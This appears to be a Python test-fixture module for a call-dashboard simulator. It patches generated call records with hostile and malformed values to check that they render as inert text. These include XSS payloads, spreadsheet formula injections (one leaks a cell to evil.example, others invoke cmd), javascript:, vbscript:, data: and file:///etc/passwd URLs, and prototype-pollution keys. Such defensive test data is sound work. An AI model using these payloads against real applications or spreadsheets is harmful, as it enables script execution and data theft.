"""The "edge" demo customer: every hostile or odd value a real API might send, on otherwise realistic calls.

Markup and scripts in text, spreadsheet formulas, dangerous URL schemes, nulls in every field, missing and
unknown fields, right-to-left text and emoji, negative durations, unparseable timestamps, and every form of
`successEvaluation`. The dashboard must show all of it as inert text. `id` is always present and unique:
without it no client can page reliably, and the loader's repair rightly treats such a call as broken.
"""

from __future__ import annotations

from datetime import date
from typing import Any, Final

from carecycle_dash.api.contract import CALL_FIELDS
from carecycle_dash.simulator.calls import WINDOW_END, generate_calls

MISSING: Final = object()
"""A patch value that removes the field from the call."""

_SCRIPT = "<script>alert('xss')</script>"
_PATCHES: Final[tuple[dict[str, Any], ...]] = (
    # Markup and scripts.
    {"summary": f"Patient said {_SCRIPT} then hung up.", "transcript": f"AI: Hello\nUser: {_SCRIPT}"},
    {"disposition": "<b>Qualified</b>", "sourceName": "<img src=x onerror=alert(1)>"},
    {"assistantType": "<iframe src='javascript:alert(1)'></iframe>", "callerId": "<svg onload=alert(1)>"},
    {
        "summary": "**Bold claim** and [click me](javascript:alert(1)) and ![pixel](http://evil.example/p.png)",
        "transcript": "AI: # Heading\nUser: - list item\nAI: `code` and <u>underline</u>\nUser: $x^2$ :smile:",
    },
    {"summary": "| col | col |\n|---|---|\n| injected | table |", "sourceName": "_underscored_ *starred*"},
    # Spreadsheet formulas: cells starting with = + - @ tab CR.
    {"callerId": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")', "summary": "=1+1"},
    {"sourceName": "+cmd|' /C calc'!A0", "assistantType": "-2+3", "disposition": "@SUM(A1:A9)"},
    {"summary": "\t=cmd|'/C notepad'!A1", "sourceName": "\rcarriage return first"},
    {"transcript": '=HYPERLINK("http://evil.example")\nUser: +1 555 0100', "successEvaluation": "=TRUE()"},
    {"disposition": "-Voicemail", "callerId": "+15555550100", "summary": "@mention someone"},
    # Recording URLs that must never be followed or rendered as links.
    {"recordingUrl": "javascript:alert(document.cookie)", "mainRecordingUrl": " JaVaScRiPt:alert(1)"},
    {
        "stereoRecordingUrl": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "recordingUrl": "data:audio/wav;base64,UklGRiQAAABXQVZFZm10IBAAAAABAAEAQB8AAEAfAAABAAgAZGF0YQAAAAA=",
    },
    {"recordingUrl": "http://evil.example/recording.wav", "mainRecordingUrl": "//evil.example/protocol-relative"},
    {"recordingUrl": "vbscript:msgbox(1)", "stereoRecordingUrl": "file:///etc/passwd", "mainRecordingUrl": ""},
    {"recordingUrl": "not a url at all", "stereoRecordingUrl": "https://user:pass@evil.example/x.wav"},
    # Nulls: one call with every field but `id` null, then fields nulled a few at a time.
    dict.fromkeys((f for f in CALL_FIELDS if f != "id"), None),
    {"campaignId": None, "disposition": None, "callerId": None, "twilioSid": None},
    {"service": None, "testFlag": None, "direction": None, "recordingUrl": None, "recordingId": None},
    {"stereoRecordingUrl": None, "assistantType": None, "successEvaluation": None, "summary": None},
    {"transcript": None, "durationMs": None, "createdAt": None, "mainRecordingUrl": None},
    {"isTestNumber": None, "sourceName": None},
    # Missing fields.
    {f: MISSING for f in CALL_FIELDS if f not in {"id", "createdAt"}},
    {f: MISSING for f in CALL_FIELDS[1::2] if f != "id"},
    {"durationMs": MISSING, "disposition": MISSING, "createdAt": MISSING},
    # Unknown extra fields.
    {"sentiment": "positive", "cost": 0.1234, "metadata": {"nested": [1, {"deep": None}]}, "tags": ["a", "b"]},
    {"__proto__": {"polluted": True}, "constructor": "Object", "toString": "x", "": "empty key"},
    {"endedReason": "customer-ended-call", "analysis": {"structuredData": {"consent": True}}, "idx": 7},
    # Unicode, right-to-left text, emoji, invisible characters, very long text.
    {"summary": "Paciente José Ñúñez confirmó la cita 👍 — gracias", "sourceName": "Zoë's CSV 📄"},
    {"summary": "المريض أكد الموعد مع الطبيب", "transcript": "AI: مرحبا، هل أتحدث مع فاطمة؟\nUser: نعم، أنا فاطمة."},
    {"summary": "שלום, המטופל אישר את התור", "callerId": "\u202e0010555551+", "disposition": "Voice\u200bmail"},
    {"summary": "👩‍⚕️📞✅ Appointment 🗓️ booked", "assistantType": "🤖 Scheduler", "sourceName": "田中太郎のリスト"},
    {"transcript": "AI: Z̷̢a̴l̸g̵o̶ text\nUser: ﷽ " + "꧅" * 5, "summary": "e\u0301e\u0301 combining accents"},
    {"summary": "Long " + "very " * 2000 + "summary", "transcript": "\n".join(f"AI: turn {i}" for i in range(400))},
    {"summary": "Nul\x00byte and bell\x07 and escape\x1b[31m red", "sourceName": 'back\\slash "quoted"'},
    # Transcripts in odd shapes.
    {"transcript": "AI: Hello\r\nUser: Windows line endings\r\nAI: Bye\r\n"},
    {"transcript": "Assistant: Hi there\nCustomer: Who is this?\nBot: A bot.\nno speaker on this line\n\n\nai: lower"},
    {"transcript": "User: The caller speaks first\nUser: twice\nAI:\nAI:    \nUser: AI: nested label"},
    {"transcript": "", "summary": "", "successEvaluation": ""},
    # Durations.
    {"durationMs": -1},
    {"durationMs": -9007199254740991},
    {"durationMs": 9007199254740991},
    {"durationMs": 0, "disposition": "Appointment Scheduled"},
    {"durationMs": 86_400_000 * 3},
    # createdAt values a parser must survive.
    {"createdAt": "not a date"},
    {"createdAt": ""},
    {"createdAt": "2026-13-45T99:99:99Z"},
    {"createdAt": "2026-11-20 10:00:00"},
    {"createdAt": "2026-11-20T10:00:00+02:00"},
    {"createdAt": "1763632800000"},
    {"createdAt": "2026-11-20"},
    {"createdAt": "Fri, 20 Nov 2026 10:00:00 GMT"},
    # successEvaluation in every form.
    {"successEvaluation": "TRUE"},
    {"successEvaluation": "False"},
    {"successEvaluation": "  true  "},
    {"successEvaluation": "7", "disposition": "voicemail"},
    {"successEvaluation": "85%", "disposition": "  Appointment Scheduled  "},
    {"successEvaluation": "Excellent", "direction": "INBOUND"},
    {"successEvaluation": "8/10", "direction": "sideways"},
    {"successEvaluation": "n/a", "service": "unknown-vendor"},
    {"successEvaluation": "-3.5"},
    {"successEvaluation": "150%", "disposition": "A disposition name nobody has seen before"},
)
EDGE_CALL_COUNT: Final = len(_PATCHES)


def generate_edge_calls(
    customer_id: str, seed: int, *, base_url: str = "", end: date = WINDOW_END
) -> list[dict[str, Any]]:
    """Realistic calls (of the window ending `end`), each bent by one patch above. Deterministic; the patches
    are fixed."""
    calls = generate_calls(customer_id, EDGE_CALL_COUNT, seed, base_url=base_url, end=end)
    for call, patch in zip(calls, _PATCHES, strict=True):
        for name, value in patch.items():
            if value is MISSING:
                call.pop(name, None)
            else:
                call[name] = value
    calls[1]["id"] = calls[1]["id"].upper()
    return calls
